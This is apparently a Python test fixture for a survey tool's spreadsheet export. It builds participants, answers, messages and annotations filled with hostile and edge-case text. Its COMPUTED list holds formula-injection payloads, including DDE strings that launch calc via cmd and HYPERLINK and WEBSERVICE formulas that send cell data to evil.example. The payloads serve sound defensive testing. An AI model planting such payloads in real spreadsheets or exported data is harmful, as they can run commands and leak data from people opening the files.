"""A survey in which every text that can come from outside is hard on spreadsheets."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, timedelta

from llab.records import Annotation, AnnotationKind, Contact, Match, MatchedBy, MessageKind, Reading, ReadMessage, Typed, ValueKind
from llab.survey.participants import Participant
from llab.survey.questionnaire import Questionnaire
from llab.survey.response import AnswerVersion, ChoiceAnswer, DateAnswer, MultiAnswer, NumberAnswer, Response, TextAnswer
from llab.tables.facts import Facts
from llab.workbook.text import LIMIT
from tests.workbook.people import NOW, START, contact

COMPUTED = (
    "=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("https://evil.example/"&A1;"press")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.example")', "\t=1+1", "\r=1+1", " =1+1", "'=1+1",
    "''", "'", "＝1+1", "=", "#N/A", "#REF!", "#DIV/0!", "TRUE", "FALSE", "1E5", "1e400", "00123", "2021-05-04", "4.5.2021", "12:30", "1/2",
    "5%", "€ 5", "NaN", "inf", "[1]Sheet1!A1", "A1", "R1C1",
)  # fmt: skip
ESCAPES = ("_x0041_", "_x005F_", "_x005F_x0041_", "__x000D__", "_x000d_", "_xD83D_", "_x0041", "x0041_", "_X0041_", "_x_x0041__x0041_")
UNPRINTED = (
    "".join(map(chr, range(32))), "".join(map(chr, range(0x7F, 0xA0))), "a\r\nb\rc\nd", "a\u0085b\u2028c\u2029d", "\ufeffmark",
    "\ufffe\uffff", "\U0001fffe\U0010ffff", "\ud800", "\udfff\ud800", "a\ud83d", "\udca9b", "\u200b\u200d\u2060", " ", "\n\n",
    "  both ends  ", "\u00a0x\u00a0",
)  # fmt: skip
SCRIPTS = (
    "👩‍👩‍👧‍👦🏳️‍🌈", "\u202eright to left\u202c", "\u2067שלום\u2069 עברית (العربية)", "e" + "\u0301" * 500, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔Ǫ̵̹̻̝̳",
    "Ștefan Țânțaru", "ｆｕｌｌ ｗｉｄｔｈ", "中文字元", "𝒳" * 50, "<b>&amp;<![CDATA[ ]]> <!-- --> &#0; &lt;", "</t></is></c>",
    "]]>", '"', "\\", "a;b,c\t|d",
)  # fmt: skip
BORDERS = (
    *(
        text
        for size in (LIMIT - 1, LIMIT, LIMIT + 1)
        for text in (
            "a" * size, "a" * (size - 2) + "😀", "a" * (size - 1) + "😀", "a" * (size - 7) + "_x0041_",
            "a b\n" * (size // 4) + "a" * (size % 4),
        )
    ),
    "_x0041_" * 4_681, "_x0041_" * 4_682, "😀" * 16_383, "😀" * 16_384, "\n" * LIMIT,
)  # fmt: skip
"""As long as a cell may be in UTF-16 units, one less, one more."""

EVERY = (*COMPUTED, *ESCAPES, *UNPRINTED, *SCRIPTS)
HEADINGS = (
    "", " ", "City", "CITY", "city ", "ＣＩＴＹ", "Theme 1", "llab row", "Answer", "=1+1", "@x", "-", "h" * 300, "h" * 299 + "i",
    "_x0041_", "a\nb", "\x00", "\ud800", "\ufffe", "\u202eabc", "straße", "STRASSE", "'", "[x]", "#N/A", "Column", "Column (2)", "\u0130",
    "i\u0307", "é", "e\u0301",
)  # fmt: skip


def _encodable(text: str) -> str:
    """The text without lone surrogates, which a record with a limit on its length refuses."""
    return text.encode("utf-8", "replace").decode()


LONG_ID = "Q" + "a-b_" * 7 + "zz"
OPTIONS = tuple(_encodable(f"{text[:40]}{number}") for number, text in enumerate((EVERY * 4)[:300]))


def _cycle(texts: tuple[str, ...], number: int) -> str:
    return texts[number % len(texts)]


def questionnaire(english: str) -> Questionnaire:
    """Ids as long as they may be, titles that are commands of page headers, 300 options."""
    everything = " ".join(EVERY)
    return Questionnaire.model_validate(
        {
            "survey": {"id": "s" * 20, "title": "=&" * 300 + everything, "languages": ["ro", "en"], "timezone": "Europe/Bucharest"},
            "questions": [
                {"id": LONG_ID, "type": "text", "text": {"ro": "=1+1 " + everything, "en": english}, "help": everything},
                {"id": "con", "type": "choice", "text": "@SUM(1)", "options": [{"value": text, "label": text} for text in OPTIONS]},
                {"id": "nul", "type": "multi", "text": "\u202ex", "options": [{"value": text, "label": text} for text in OPTIONS[:3]]},
                {"id": "n", "type": "number", "text": "😀" * 300},
                {"id": "d", "type": "date", "text": "&A&P"},
                {"id": "empty", "type": "text", "text": "nobody answers this one"},
            ],
        }
    )


def _person(number: int) -> Participant:
    text = _cycle(EVERY, number)
    return Participant(
        id=_encodable(f"{text[:40]}/{number}"),
        addresses=(f"{text}@firma.example",),
        name=_cycle(EVERY, number + 1),
        language="ro",
        attributes={heading: _cycle(EVERY, number + place) for place, heading in enumerate(HEADINGS)} if number else {},
    )


NUMBERS = (0, -0.0, 1e-320, 1.5, 10**14, 10**15, -(10**15), 0.1 + 0.2, 1e14 + 0.1)
"""As large as a reply may say them."""

DAYS = (date(1, 1, 1), date(1900, 2, 28), date(1900, 3, 1), date(2024, 2, 29), date(9999, 12, 31))


def _answers(number: int, text: str) -> Iterator[TextAnswer | ChoiceAnswer | MultiAnswer | NumberAnswer | DateAnswer]:
    about = {
        "text": text,
        "confidence": 0.5,
        "review": number % 3 == 0,
        "how": _cycle(EVERY, number + 2),
        "reasons": (_cycle(EVERY, number),),
    }
    yield TextAnswer.model_validate({"question": LONG_ID, **about})
    if number < 60:
        yield ChoiceAnswer.model_validate({"question": "con", "value": OPTIONS[number], **about})
        yield MultiAnswer.model_validate({"question": "nul", "value": OPTIONS[:3], **about})
        yield NumberAnswer.model_validate({"question": "n", "value": NUMBERS[number % len(NUMBERS)], **about})
        yield DateAnswer.model_validate({"question": "d", "value": DAYS[number % len(DAYS)], **about})


def _response(number: int, person: Participant, text: str) -> Response:
    versions = tuple(
        AnswerVersion.model_construct(
            participant=person.id, wave=1, version=1, answer=answer, message=f"{number:064x}", received=START + timedelta(hours=number)
        )
        for answer in _answers(number, text)
    )
    return Response.model_construct(participant=person.id, wave=1, versions=versions)


def _message(number: int, person: Participant) -> ReadMessage:
    text = _cycle(EVERY, number)
    return ReadMessage.model_validate(
        {
            "message": f"{number:064x}", "parser": "1", "content": f"{number:064x}", "author": f"{text}@x.example", "subject": text,
            "arrived": START, "match": Match(participant=person.id if number % 2 else None, by=MatchedBy.ADDRESS, reasons=(text,)),
            "reading": Reading(kind=MessageKind.ANSWERS, unassigned=_cycle(EVERY, number + 3), review=True, reasons=(text,)),
            "unreadable": text if number % 7 == 0 else "",
        }
    )  # fmt: skip


def _annotations(people: tuple[Participant, ...]) -> Iterator[Annotation]:
    """What analysts typed: into their columns, columns of their own, the codebook; by two at once, beside answers, and homeless."""
    columns = ("Theme 1", "Theme 2", "Translation", "Quote", "Note", *HEADINGS)
    for number, person in enumerate(people):
        row, text = f"{person.id}/1/{LONG_ID}", _cycle(EVERY, number)
        about = {"workbook": "s.xlsx", "row": row, "at": NOW, "coder": text, "seen": text if number % 2 else "another answer _x0041_ "}
        yield Annotation.model_validate({**about, "column": _cycle(columns, number), "value": Typed(text=text)})
        yield Annotation.model_validate({**about, "column": "Theme 3", "value": Typed(text=text), "kind": AnnotationKind.BESIDE})
        yield Annotation.model_validate({**about, "column": "Theme 3", "value": Typed(text=text * 2), "kind": AnnotationKind.BESIDE})
        yield Annotation.model_validate({**about, "column": text, "value": Typed(text=text), "kind": AnnotationKind.EDITED})
        yield Annotation.model_validate({**about, "row": f"gone {text}", "column": text, "value": Typed(text=text)})
        yield Annotation.model_validate({**about, "row": f"Codebook:/{text}", "column": "Meaning", "value": Typed(text=text)})
    numbers = (Typed(text=text, kind=ValueKind.NUMBER) for text in ("1.79769313486232e+308", "-0", "1e+15", "123456789012345", "5e-324"))
    others = (Typed(text="true", kind=ValueKind.TRUTH), Typed(text="2026-03-29T00:30:00", kind=ValueKind.MOMENT))
    for person, value in zip(people, (*numbers, *others), strict=False):
        row = f"{person.id}/1/{LONG_ID}"
        yield Annotation(workbook="s.xlsx", row=row, column="Note", value=value, at=NOW + timedelta(1))


def facts(texts: tuple[str, ...] = (*EVERY, *BORDERS, "m" * 1_000_000), *, english: str = "a" * 40_000) -> Facts:
    """One participant for each text, which is what she answered; `english` is what the first question says in that language."""
    people = tuple(map(_person, range(len(texts))))
    contacts: tuple[Contact, ...] = tuple(contact(number).model_copy(update={"participant": each.id}) for number, each in enumerate(people))
    return Facts.model_construct(
        questionnaire=questionnaire(english),
        participants=people,
        contacts=contacts,
        responses=tuple(_response(number, person, text) for number, (person, text) in enumerate(zip(people, texts, strict=True))),
        messages=tuple(_message(number, person) for number, person in enumerate(people)),
        fates={_cycle(EVERY, number): number for number in range(len(EVERY))},
        annotations=tuple(_annotations(people)),
        now=NOW,
        version="0.1.0",
    )
